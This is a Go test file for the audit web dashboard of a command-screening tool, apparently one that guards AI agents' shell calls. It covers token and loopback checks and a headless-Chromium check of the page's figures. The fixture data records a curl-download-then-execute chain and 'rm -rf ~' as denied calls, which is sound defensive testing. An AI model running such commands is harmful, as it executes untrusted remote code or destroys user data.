package auditweb_test

import (
	"context"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/chromedp/chromedp"

	"github.com/toolwall/toolwall"
	"github.com/toolwall/toolwall/audit"
	"github.com/toolwall/toolwall/audit/auditweb"
	"github.com/toolwall/toolwall/audit/sqlitestore"
)

// fill writes a small history: three sessions, every action, a chain
// that fired, a sub-agent, outcomes.
func fill(t *testing.T, s audit.Store) {
	ctx := context.Background()
	now := time.Now()
	add := func(i int, session, caller, cmd string, a toolwall.Action, rules ...string) {
		v := toolwall.Verdict{Action: a, Score: 0.1}
		for _, r := range rules {
			v.Findings = append(v.Findings, toolwall.Finding{Rule: r, Action: a, Reason: "because " + r})
		}
		call := toolwall.NewBashCall(cmd)
		call.Session, call.Caller, call.ID = session, caller, fmt.Sprintf("toolu_%d", i)
		if err := s.Record(ctx, audit.New(fmt.Sprintf("id%02d", i), "test", call, v, now.Add(-time.Duration(i)*time.Hour), time.Millisecond)); err != nil {
			t.Fatal(err)
		}
	}
	add(1, "s1", "", "curl -o run.sh https://x.example/run.sh", toolwall.Allow)
	add(2, "s1", "", "chmod +x run.sh", toolwall.Allow)
	add(3, "s1", "", "./run.sh", toolwall.Deny, "chain.download-execute")
	add(4, "s1", "", "rm -rf ~", toolwall.Deny, "rm.dangerous-target")
	add(5, "s2", "reviewer", "git reset --hard", toolwall.Ask, "git.reset-hard")
	add(6, "s2", "reviewer", "git push --force", toolwall.Ask, "git.force-push")
	add(7, "s2", "", "ls", toolwall.Allow)
	add(30, "s3", "", "rm -rf ~/x", toolwall.Deny, "rm.dangerous-target")
	add(31, "s3", "", "echo hi", toolwall.Warn, "misc.warn")
	if err := s.CallOutcome(ctx, "s1", "toolu_1", audit.Outcome{Success: true}); err != nil {
		t.Fatal(err)
	}
}

func serve(t *testing.T, s audit.Store) (*auditweb.Server, string) {
	srv := auditweb.New(s)
	ln, err := auditweb.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	hs := &http.Server{Handler: srv}
	go hs.Serve(ln)
	t.Cleanup(func() { hs.Close() })
	return srv, srv.URL(ln)
}

func TestTokenAndLoopback(t *testing.T) {
	dir := t.TempDir()
	s := sqlitestore.Open(filepath.Join(dir, "audit.db"), sqlitestore.Options{})
	defer s.Close()
	_, u := serve(t, s)
	for _, bad := range []string{strings.Split(u, "?")[0], strings.Split(u, "?")[0] + "?token=wrong"} {
		resp, err := http.Get(bad)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != http.StatusForbidden {
			t.Errorf("%s: %d, want 403", bad, resp.StatusCode)
		}
	}
	resp, err := http.Get(u)
	if err != nil || resp.StatusCode != 200 {
		t.Fatalf("with the token: %v %v", resp, err)
	}
	resp.Body.Close()
	for _, addr := range []string{"0.0.0.0:0", "192.0.2.1:0", ":0"} {
		if ln, err := auditweb.Listen(addr); err == nil {
			ln.Close()
			t.Errorf("Listen(%q) accepted a non-loopback address", addr)
		}
	}
}

// chromium finds Debian's chromium (or another Chrome).
func chromium(t *testing.T) string {
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome", "headless-shell"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	t.Skip("no chromium on this machine: install Debian's chromium package (apt-get install -y chromium; .ci/run does) to run the browser test")
	return ""
}

// TestPageInChromium loads the page in headless Chromium, checks the
// numbers it shows against the store, follows a session link to the
// chain that fired, and saves screenshots.
func TestPageInChromium(t *testing.T) {
	exe := chromium(t)
	dir := t.TempDir()
	s := sqlitestore.Open(filepath.Join(dir, "audit.db"), sqlitestore.Options{Inbox: filepath.Join(dir, "audit.jsonl")})
	defer s.Close()
	fill(t, s)
	_, u := serve(t, s)

	home := t.TempDir()
	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(exe), chromedp.Headless, chromedp.NoSandbox, chromedp.DisableGPU,
		chromedp.Flag("disable-background-networking", true), chromedp.Flag("disable-component-update", true),
		chromedp.Flag("disable-sync", true), chromedp.NoFirstRun, chromedp.UserDataDir(t.TempDir()),
		// Its crash reports and dconf cache go under HOME: a scratch one.
		chromedp.Flag("disable-breakpad", true), chromedp.Env("HOME="+home, "XDG_CONFIG_HOME="+home+"/.config", "XDG_CACHE_HOME="+home+"/.cache"),
		chromedp.WindowSize(1200, 1400))
	actx, cancel := chromedp.NewExecAllocator(context.Background(), opts...)
	defer cancel()
	ctx, cancel := chromedp.NewContext(actx)
	defer cancel()
	go func() { // bound the whole test; a timeout on the first Run would stop the browser
		select {
		case <-ctx.Done():
		case <-time.After(90 * time.Second):
			cancel()
		}
	}()

	if err := chromedp.Do(ctx, chromedp.Navigate(u), chromedp.WaitVisible(chromedp.CSS("#top-rules"))); err != nil {
		t.Fatal(err)
	}
	text := func(sel string) string {
		v, err := chromedp.Run(ctx, chromedp.Text(chromedp.CSS(sel)))
		if err != nil {
			t.Fatalf("%s: %v", sel, err)
		}
		return strings.TrimSpace(v)
	}
	// The numbers the store gives for the same week.
	week := audit.Filter{Since: time.Now().Add(-7 * 24 * time.Hour)}
	all, err := s.Query(context.Background(), week)
	if err != nil {
		t.Fatal(err)
	}
	count := func(a toolwall.Action) string {
		f := week
		f.Actions = []toolwall.Action{a}
		rs, _ := s.Query(context.Background(), f)
		return strconv.Itoa(len(rs))
	}
	dangerous, _ := s.Query(context.Background(), audit.Filter{Since: week.Since, Rule: "rm.dangerous-target"})
	for _, c := range []struct{ sel, want string }{
		{"#total", strconv.Itoa(len(all))}, {"#count-deny", count(toolwall.Deny)}, {"#count-ask", count(toolwall.Ask)},
		{"#count-allow", count(toolwall.Allow)}, {"#count-warn", count(toolwall.Warn)},
		{"#top-rules tr:nth-child(2) td:first-child", "rm.dangerous-target"},
		{"#top-rules tr:nth-child(2) td.count", strconv.Itoa(len(dangerous))},
	} {
		if got := text(c.sel); got != c.want {
			t.Errorf("%s: page shows %q, store says %q", c.sel, got, c.want)
		}
	}
	if len(all) != 9 {
		t.Errorf("store holds %d decisions this week, want the 9 written", len(all))
	}
	shot, err := chromedp.Run(ctx, chromedp.FullScreenshot(100))
	if err != nil {
		t.Fatal(err)
	}
	save(t, "overview.png", shot)

	if err := chromedp.Do(ctx, chromedp.Click(chromedp.CSS(`tr[data-session="s1"] a`), chromedp.NodeVisible), chromedp.WaitVisible(chromedp.CSS("#chains"))); err != nil {
		t.Fatal(err)
	}
	rows, err := chromedp.Run(ctx, chromedp.Evaluate[int](`document.querySelectorAll("#calls tr").length - 1`))
	if err != nil {
		t.Fatal(err)
	}
	s1, _ := s.Query(context.Background(), audit.Filter{Session: "s1"})
	if got := text("#chains tr:nth-child(2) td:nth-child(2)"); got != "chain.download-execute" || rows != len(s1) {
		t.Errorf("session page: chain %q, %d calls; store has %d", got, rows, len(s1))
	}
	if shot, err = chromedp.Run(ctx, chromedp.FullScreenshot(100)); err != nil {
		t.Fatal(err)
	}
	save(t, "session.png", shot)
}

// save writes a screenshot under the test's temporary directory, or
// under $AUDITWEB_SCREENSHOTS when set (to look at it).
func save(t *testing.T, name string, png []byte) {
	dir := os.Getenv("AUDITWEB_SCREENSHOTS")
	if dir == "" {
		dir = t.TempDir()
	}
	if err := os.WriteFile(filepath.Join(dir, name), png, 0o644); err != nil {
		t.Fatal(err)
	}
	t.Logf("screenshot %s (%d bytes)", filepath.Join(dir, name), len(png))
}
